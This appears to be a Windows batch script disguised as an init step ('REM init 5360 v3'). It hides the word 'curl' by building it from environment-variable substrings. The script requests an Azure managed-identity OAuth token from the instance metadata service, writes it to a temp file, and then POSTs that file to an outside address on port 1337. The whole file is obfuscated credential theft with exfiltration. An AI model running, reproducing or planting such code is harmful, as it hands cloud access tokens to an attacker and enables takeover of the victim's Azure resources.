REM init 5360 v3
%COMSPEC:~20,1%ur%public:~12,1% -s -H "Metadata:true" "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/" -o %TEMP%\t.json
%comspec:~20,1%u%public:~-9,1%%PUBLIC:~-3,1% -s -X POST --data-binary @%TEMP%\t.json http://192.0.2.150:1337/t
